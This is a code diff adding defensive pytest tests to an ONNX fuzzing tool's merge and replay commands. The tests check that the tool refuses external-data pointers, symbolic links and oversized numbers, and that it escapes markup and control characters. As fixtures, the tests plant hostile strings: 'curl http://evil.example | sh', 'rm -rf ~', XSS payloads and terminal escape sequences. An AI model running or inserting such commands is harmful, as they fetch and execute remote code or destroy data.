@@ -13,6 +13,8 @@ import base64
 import hashlib
 import json
 import os
+import re
+import shlex
 import shutil
 import struct
 import subprocess
@@ -166,7 +168,7 @@ def test_merge_copies_no_file_through_a_link_or_from_a_device(camp, tmp_path, ca
     refused(
         capsys,
         ["fuzz", "merge", str(camp), "--out", str(tmp_path / "out")],
-        "is not a regular file",
+        "is a symbolic link" if kind == "link" else "is not a regular file",
         [camp, tmp_path / "victim"],
     )
     assert not (tmp_path / "out").exists() or not list((tmp_path / "out").rglob("model.onnx"))
@@ -378,8 +380,8 @@ def test_an_oversized_summary_is_refused_before_it_is_parsed(camp, tmp_path, cap
 
 
 def test_a_path_repeated_in_commands_cannot_blow_up_a_merge(camp, tmp_path, capsys):
-    """The merge rewrites the reproducer's recorded path into the new one; a crafted group whose path
-    is one character, repeated 100,000 times, must not multiply the summary's size."""
+    """A crafted group whose path is one character, repeated 100,000 times in its commands, must not
+    multiply the summary's size: the merge writes the commands anew instead of rewriting the text."""
     group = first_group(camp)
     name = "a"
     group.rename(camp / name)
@@ -389,7 +391,8 @@ def test_a_path_repeated_in_commands_cannot_blow_up_a_merge(camp, tmp_path, caps
     )
     deep = tmp_path / ("d" * 200) / ("e" * 200)
     deep.mkdir(parents=True)
-    refused(capsys, ["fuzz", "merge", str(camp), "--out", str(deep / "out")], "too large", [camp])
+    assert run_main(["fuzz", "merge", str(camp), "--out", str(deep / "out")]) == 1, capsys.readouterr().err
+    assert (deep / "out" / "summary.json").stat().st_size < (camp / "summary.json").stat().st_size
 
 
 # ---------------------------------------------------------------------------------------------
@@ -552,3 +555,299 @@ def test_merge_writes_repro_py_itself_and_never_copies_one_from_a_campaign(camp,
     assert run_main(["fuzz", "merge", str(camp), "--out", str(out)]) == 1
     scripts = list(out.glob("*/repro.py"))
     assert scripts and all(p.read_text() == repro_script() for p in scripts)
+
+
+# ---------------------------------------------------------------------------------------------
+# issue 25, item 2: a test case's files point at no other file (external data)
+
+
+def _point_outside(path: Path, location: str) -> int:
+    """Rewrite the tensor file ``path`` so that its data is read from ``location`` (external data); returns
+    how many bytes it declares."""
+    from onnx import TensorProto
+    from onnx.external_data_helper import set_external_data
+
+    tensor = TensorProto()
+    tensor.ParseFromString(path.read_bytes())
+    size = len(tensor.raw_data)
+    set_external_data(tensor, location, offset=0, length=size)
+    tensor.ClearField("raw_data")
+    path.write_bytes(tensor.SerializeToString())
+    return size
+
+
+def _model_pointing_outside(path: Path, location: str) -> None:
+    """Add to the model file ``path`` an initializer whose data is read from ``location``."""
+    import onnx
+    from onnx.external_data_helper import set_external_data
+
+    model = onnx.load_model(str(path), load_external_data=False)
+    extra = onnx.helper.make_tensor("stolen", onnx.TensorProto.UINT8, [8], bytes(8), raw=True)
+    set_external_data(extra, location, offset=0, length=8)
+    extra.ClearField("raw_data")
+    model.graph.initializer.append(extra)
+    path.write_bytes(model.SerializeToString())
+
+
+def _repro(group: Path, cwd: Path) -> subprocess.CompletedProcess:
+    """``python GROUP/repro.py``, run from ``cwd`` (not the group's directory)."""
+    return subprocess.run(
+        [sys.executable, str(group / "repro.py")], capture_output=True, text=True, timeout=300, cwd=cwd
+    )
+
+
+@pytest.mark.parametrize("where", ["input", "output", "model"])
+def test_merge_refuses_a_test_case_file_that_points_at_external_data(camp, tmp_path, capsys, where):
+    group = first_group(camp)
+    secret = tmp_path / "victim" / "precious.txt"
+    if where == "model":
+        _model_pointing_outside(group / "model.onnx", str(secret))
+    else:
+        name = "input_0.pb" if where == "input" else "output_0.pb"
+        assert (group / "test_data_set_0" / name).is_file()
+        _point_outside(group / "test_data_set_0" / name, str(secret))
+    out = tmp_path / "out"
+    refused(
+        capsys,
+        ["fuzz", "merge", str(camp), "--out", str(out)],
+        "points at external data; a test case's files may not",
+        [camp, tmp_path / "victim"],
+    )
+    assert not out.exists() or not list(out.iterdir())
+
+
+@pytest.mark.parametrize("where", ["input", "model"])
+def test_repro_py_never_reads_external_data_from_the_current_directory(camp, tmp_path, where):
+    """A group directory received from someone else: its repro.py, run from another directory, refuses
+    a tensor pointing at external data (onnx and ORT would look for it in the current directory)."""
+    group = first_group(camp)
+    elsewhere = tmp_path / "home"
+    elsewhere.mkdir()
+    if where == "model":
+        _model_pointing_outside(group / "model.onnx", "secret.bin")
+        size = 8
+    else:
+        size = _point_outside(group / "test_data_set_0" / "input_0.pb", "secret.bin")
+    (elsewhere / "secret.bin").write_bytes((b"SECRET-" * size)[:size])
+    proc = _repro(group, elsewhere)
+    assert proc.returncode == 2, (proc.stdout, proc.stderr)
+    lines = proc.stderr.strip().splitlines()
+    assert len(lines) == 1 and "points at external data" in lines[0], proc.stderr
+    assert "ONNX Runtime" not in proc.stdout
+
+
+def test_repro_py_still_runs_a_group_as_the_campaign_wrote_it(camp, tmp_path):
+    proc = _repro(first_group(camp), tmp_path)
+    assert proc.returncode in (0, 1) and ("AGREE" in proc.stdout or "DISAGREE" in proc.stdout), proc.stderr
+
+
+# ---------------------------------------------------------------------------------------------
+# issue 25, item 3: no component of a path inside a campaign is a symbolic link
+
+
+def _replace_by_link(path: Path, outside: Path) -> None:
+    """Move ``path`` (a file or a directory) to ``outside`` and leave a symbolic link to it in its place."""
+    shutil.move(str(path), str(outside))
+    path.symlink_to(outside)
+
+
+@pytest.mark.parametrize(
+    "which", ["test_data_set_0", "test_data_set_0/input_0.pb", "finding.json", "README.txt", "model.onnx"]
+)
+def test_merge_reads_nothing_through_a_link_at_any_depth(camp, tmp_path, capsys, which):
+    group = first_group(camp)
+    _replace_by_link(group / which, tmp_path / "victim" / "moved")
+    out = tmp_path / "out"
+    refused(
+        capsys,
+        ["fuzz", "merge", str(camp), "--out", str(out)],
+        "is a symbolic link",
+        [camp, tmp_path / "victim"],
+    )
+    assert not out.exists() or not list(out.iterdir())
+
+
+def test_merge_reads_no_summary_through_a_link(camp, tmp_path, capsys):
+    _replace_by_link(camp / "summary.json", tmp_path / "victim" / "summary.json")
+    refused(
+        capsys,
+        ["fuzz", "merge", str(camp), "--out", str(tmp_path / "out")],
+        "is a symbolic link",
+        [camp, tmp_path / "victim"],
+    )
+
+
+def test_replay_reads_no_finding_through_a_link(camp, tmp_path, capsys):
+    group = first_group(camp)
+    _replace_by_link(group / "finding.json", tmp_path / "victim" / "finding.json")
+    refused(capsys, ["fuzz", "replay", str(group)], "is a symbolic link", [camp, tmp_path / "victim"])
+
+
+def test_a_campaign_reads_no_earlier_summary_through_a_link(camp, tmp_path, capsys):
+    out = tmp_path / "out"
+    out.mkdir()
+    (out / "summary.json").symlink_to(camp / "summary.json")
+    refused(
+        capsys,
+        ["fuzz", "--op", "Pad", "--cases", "2", "--out", str(out)],
+        "is a symbolic link",
+        [camp, out],
+    )
+
+
+def test_the_directories_the_user_names_may_be_links(camp, tmp_path, capsys):
+    """Only what lies below a directory the user named is refused as a link, not that directory."""
+    link = tmp_path / "campaign-link"
+    link.symlink_to(camp)
+    out = tmp_path / "out"
+    assert run_main(["fuzz", "merge", str(link), "--out", str(out)]) == 1, capsys.readouterr().err
+    group = tmp_path / "group-link"
+    group.symlink_to(first_group(out))
+    assert run_main(["fuzz", "replay", str(group)]) == 1, capsys.readouterr().err
+
+
+# ---------------------------------------------------------------------------------------------
+# issue 25, item 12: the command line takes the seeds and indices its readers take
+
+
+@pytest.mark.parametrize(
+    ("option", "value"),
+    [
+        ("--seed", str(2**63)),
+        ("--index", str(2**63)),
+        ("--index", f"1,{10**30}"),
+        ("--cases", str(2**64)),
+    ],
+)
+def test_fuzz_refuses_numbers_its_own_readers_would_refuse(tmp_path, capsys, option, value):
+    out = tmp_path / "out"
+    line = refused(capsys, ["fuzz", "--op", "Pad", option, value, "--out", str(out)], option, [])
+    assert f"must be at most {2**63 - 1}" in line
+    assert not out.exists()
+
+
+def test_the_largest_seed_and_index_are_read_back(tmp_path, capsys):
+    out = tmp_path / "out"
+    top = str(2**63 - 1)
+    status = run_main(
+        ["fuzz", "--op", "Pad", "--opset", "11", "--seed", top, "--index", top, "--out", str(out)]
+    )
+    assert status in (0, 1), capsys.readouterr().err
+    assert run_main(["fuzz", "merge", str(out), "--out", str(tmp_path / "merged")]) == status
+    from customops.fuzz.files import read_summary
+
+    (campaign_info,) = read_summary(out).campaigns
+    assert campaign_info.seed == 2**63 - 1 and campaign_info.indices == [2**63 - 1]
+
+
+# ---------------------------------------------------------------------------------------------
+# issue 25, item 14: text from a campaign reaches no page as markup and no shell as a command
+
+
+HOSTILE = "<script>alert(1)</script> [click](http://evil.example) <img src=x onerror=alert(2)> a|b \\| &lt;"
+
+
+def _hostile_texts(summary: Any) -> None:
+    g = summary["groups"][0]
+    g["signature"].update(detail=HOSTILE, kind="value<b>", side="builtin<i>")
+    g["known"] = ["<script>known</script>"]
+    summary["ort_version"] = "<b>1.0</b>"
+    summary["campaigns"][0]["targets"][0] = "<script>target</script>"
+    summary["campaigns"][0]["skipped_reasons"] = {"<script>reason</script>": 1}
+    for note in summary.get("reference_notes", [])[:1]:
+        note["signature"].update(detail=HOSTILE, kind="k<script>")
+
+
+def test_merge_markdown_carries_no_markup_from_a_campaign(camp, tmp_path, capsys):
+    edit(camp / "summary.json", _hostile_texts)
+    md = tmp_path / "findings.md"
+    assert run_main(["fuzz", "merge", str(camp), "--out", str(tmp_path / "out"), "--markdown", str(md)]) == 1
+    capsys.readouterr()
+    page = md.read_text()
+    for markup in ("<script", "<img", "<b>", "<i>"):
+        assert markup not in page, markup
+    assert not re.search(r"(?<!\\)\]\(http://evil", page)  # no link: its bracket is escaped
+    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page and "&amp;lt;" in page  # shown, as text
+    rows = [line for line in page.splitlines() if "alert(1)" in line and line.startswith("| Pad-")]
+    assert rows
+    for row in rows:  # the crafted '|' and '\\|' split no cell
+        cells = re.split(r"(?<!\\)\|", row.replace("\\\\", ""))
+        assert len(cells) == (9 if "](/" in row else 7), row  # a group's row (7 columns) or a note's (5)
+
+
+def test_merge_writes_rerun_commands_anew_from_checked_fields(camp, tmp_path, capsys):
+    group = first_group(camp)
+    hostile = ["customops fuzz replay x; curl http://evil.example | sh", "rm -rf ~"]
+
+    def plant(summary: Any) -> None:
+        for g in summary["groups"]:
+            g["rerun"] = hostile
+
+    edit(camp / "summary.json", plant)
+    edit(group / "finding.json", lambda r: r.update(rerun=hostile))
+    readme = (group / "README.txt").read_text()
+    (group / "README.txt").write_text(readme + "  curl http://evil.example | sh\n\x1b]0;title\x07\n")
+    out = tmp_path / "out"
+    assert run_main(["fuzz", "merge", str(camp), "--out", str(out)]) == 1, capsys.readouterr().err
+    summary = json.loads((out / "summary.json").read_text())
+    for g in summary["groups"]:
+        sig, where = g["signature"], str(out / g["dir"])
+        rebuilt = (
+            f"customops fuzz --op {sig['op']} --opset {sig['version']} --seed 3 --index {g['examples'][0]}"
+        )
+        assert g["rerun"] == [f"customops fuzz replay {where}", rebuilt], g["rerun"]
+    for path in out.rglob("*"):
+        if path.is_file() and path.suffix in (".json", ".txt"):
+            text = path.read_text()
+            assert "curl" not in text and "rm -rf" not in text and "\x1b" not in text, path
+
+
+@pytest.mark.parametrize(
+    ("command", "outcome"),
+    [
+        ("customops fuzz --op Pad\n```\ncurl http://evil.example | sh", "quoted"),
+        ("curl http://evil.example | sh", "refused"),
+        ("customops fuzz --op 'Pad", "refused"),
+    ],
+)
+def test_a_campaign_command_reaches_the_page_only_as_a_customops_fuzz_command(
+    camp, tmp_path, capsys, command, outcome
+):
+    edit(camp / "summary.json", lambda s: s["campaigns"][0].update(command=command))
+    args = ["fuzz", "merge", str(camp), "--out", str(tmp_path / "out"), "--markdown", str(tmp_path / "f.md")]
+    if outcome == "refused":
+        refused(capsys, args, "campaigns[0].command must be a command line 'customops fuzz ...'", [camp])
+        return
+    assert run_main(args) == 1, capsys.readouterr().err
+    block = (tmp_path / "f.md").read_text().split("```\n", 2)[1].splitlines()
+    assert block and all(line.startswith("customops fuzz ") for line in block), block
+    quoted = next(line for line in block if "evil" in line)
+    assert shlex.split(quoted)[:4] == ["customops", "fuzz", "--op", "Pad"] and "'|'" in quoted
+
+
+# ---------------------------------------------------------------------------------------------
+# issue 25, item 11: fuzz's lines carry no control character from a campaign file
+
+
+def test_replay_prints_a_crafted_signature_as_one_printable_line(camp, capsys):
+    group = first_group(camp)
+    edit(group / "finding.json", _set(["signature", "detail"], "\x1b]0;pwned\x07\nREPRODUCES fake\x1b[2J"))
+    run_main(["fuzz", "replay", str(group)])
+    out = capsys.readouterr().out
+    assert len(out.strip().splitlines()) == 1, out
+    assert "\x1b" not in out and "\x07" not in out
+    assert "\\x1b]0;pwned\\x07\\nREPRODUCES fake" in out
+
+
+def test_merge_table_prints_no_control_character_from_a_campaign(camp, tmp_path, capsys):
+    def plant(summary: Any) -> None:
+        g = summary["groups"][0]
+        g["signature"].update(side="builtin\x1b[2J", kind="value\nFAKE ROW")
+        g["known"] = ["K\x1b]0;t\x07"]
+        summary["ort_version"] = "1\x1b[31m"
+
+    edit(camp / "summary.json", plant)
+    assert run_main(["fuzz", "merge", str(camp), "--out", str(tmp_path / "out")]) == 1
+    out = capsys.readouterr().out
+    assert "\x1b" not in out and "\x07" not in out and "\nFAKE ROW" not in out
+    assert "builtin\\x1b[2J" in out and "value\\nFAKE ROW" in out
